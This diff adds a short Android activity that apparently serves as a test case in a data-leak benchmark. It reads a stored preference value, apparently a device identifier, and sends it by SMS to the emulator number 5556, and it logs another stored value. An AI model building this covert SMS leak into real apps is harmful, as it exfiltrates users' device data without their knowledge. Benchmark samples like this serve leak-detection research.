@@ -1,0 +1,23 @@
+package org.brookside.flows;
+
+import android.app.*;
+import android.content.*;
+import android.database.Cursor;
+import android.net.Uri;
+import android.os.*;
+import android.telephony.*;
+import android.util.Log;
+import android.view.View;
+import android.widget.*;
+import java.io.*;
+import java.net.*;
+import java.util.*;
+
+/** The second half. */
+public class StoredPrefsNext extends Case {
+    @Override protected void onCreate(Bundle s) {
+        super.onCreate(s);
+        SmsManager.getDefault().sendTextMessage("5556", null, getSharedPreferences("p", 0).getString("dev", ""), null, null);
+        Log.i("x", getSharedPreferences("p", 0).getString("other", ""));
+    }
+}
